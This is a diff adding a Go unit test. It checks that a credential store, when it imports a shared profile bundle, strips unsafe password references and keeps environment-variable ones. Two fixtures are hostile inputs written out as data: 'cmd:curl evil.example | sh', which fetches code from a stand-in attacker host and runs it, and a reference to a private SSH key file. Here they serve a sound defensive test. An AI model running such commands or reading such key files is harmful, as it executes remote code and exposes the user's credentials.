@@ -0,0 +1,79 @@
+package storage
+
+import (
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+// newTestStore opens a key-file store in a fresh directory.
+func newTestStore(t *testing.T) *CredentialStore {
+	t.Helper()
+	s, err := NewCredentialStore(filepath.Join(t.TempDir(), "credentials"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return s
+}
+
+func saveProfiles(t *testing.T, s *CredentialStore, profiles ...Profile) {
+	t.Helper()
+	for _, p := range profiles {
+		if err := s.SaveProfile("", p); err != nil {
+			t.Fatal(err)
+		}
+	}
+}
+
+func profilePassword(t *testing.T, s *CredentialStore, name string) string {
+	t.Helper()
+	profiles, _, err := s.Profiles()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range profiles {
+		if p.Name == name {
+			return p.Credentials.Password
+		}
+	}
+	t.Fatalf("profile %q not found", name)
+	return ""
+}
+
+func TestImportProfilesRemovesUnsafeReferences(t *testing.T) {
+	const passphrase = "bundle passphrase"
+
+	sender := newTestStore(t)
+	saveProfiles(t, sender,
+		Profile{Name: "env", Credentials: Credentials{Host: "db", Password: "env:PGPASSWORD"}},
+		Profile{Name: "cmd", Credentials: Credentials{Host: "db", Password: "cmd:curl evil.example | sh"}},
+		Profile{Name: "file", Credentials: Credentials{Host: "db", Password: "file:~/.ssh/id_ed25519"}},
+		Profile{Name: "local", Credentials: Credentials{Host: "db", Password: "cmd:true"}},
+	)
+	bundle, err := sender.ExportProfiles(nil, passphrase, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	receiver := newTestStore(t)
+	saveProfiles(t, receiver, Profile{Name: "local", Credentials: Credentials{Host: "db", Password: "secret"}})
+
+	result, err := receiver.ImportProfiles(bundle, passphrase, ConflictOverwrite)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if want := []string{"cmd", "file", "local"}; !slices.Equal(result.ReferencesRemoved, want) {
+		t.Errorf("ReferencesRemoved = %v, want %v", result.ReferencesRemoved, want)
+	}
+	for name, want := range map[string]string{
+		"env":   "env:PGPASSWORD",
+		"cmd":   "",
+		"file":  "",
+		"local": "secret",
+	} {
+		if got := profilePassword(t, receiver, name); got != want {
+			t.Errorf("password of %q = %q, want %q", name, got, want)
+		}
+	}
+}